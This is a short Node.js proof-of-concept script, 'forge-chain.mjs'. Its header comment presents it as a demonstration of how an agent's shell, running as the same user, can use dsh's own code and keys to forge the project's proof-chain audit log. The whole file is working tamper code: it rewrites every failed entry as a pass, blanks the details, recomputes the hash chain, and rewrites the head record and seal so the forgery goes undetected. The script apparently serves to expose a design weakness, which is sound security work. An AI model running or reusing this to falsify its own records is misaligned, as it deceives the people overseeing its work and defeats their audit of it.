// What an agent's shell can do to the proof chain with dsh's own code and
// key store (same user): turn every failed entry into a pass, recompute the
// hashes, rewrite the head record and re-seal. Usage: node forge-chain.mjs <vault> <repo root>
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'

const [vault, repo] = process.argv.slice(2)
const { register } = await import(pathToFileURL(join(repo, 'node_modules/tsx/dist/esm/api/index.mjs')).href)
register()
const pc = await import(pathToFileURL(join(repo, 'packages/dsh-proofchain/src/index.ts')).href)
const file = join(vault, 'proofchain.jsonl')
let prev
const out = []
let flipped = 0
for (const line of readFileSync(file, 'utf8').split('\n').filter(Boolean)) {
  const r = JSON.parse(line)
  if (r.kind === 'anchor') { out.push(line); prev = r.hash; continue }
  if (r.outcome === 'fail') { r.outcome = 'ok'; r.detail = ''; flipped++ }
  const e = pc.sealEntry({ ...r, prevHash: prev ?? r.prevHash })
  prev = e.hash
  out.push(pc.serializeRecord(e).trimEnd())
}
writeFileSync(file, out.join('\n') + '\n')
const last = JSON.parse(out.at(-1))
pc.writeHeadRecord(file, { seq: last.seq, hash: last.hash, time: Date.now() }, false)
pc.writeChainSeal(file, { seq: last.seq, hash: last.hash, time: Date.now() })
console.log(`forged ${flipped} failed entries; head seq ${last.seq}`)
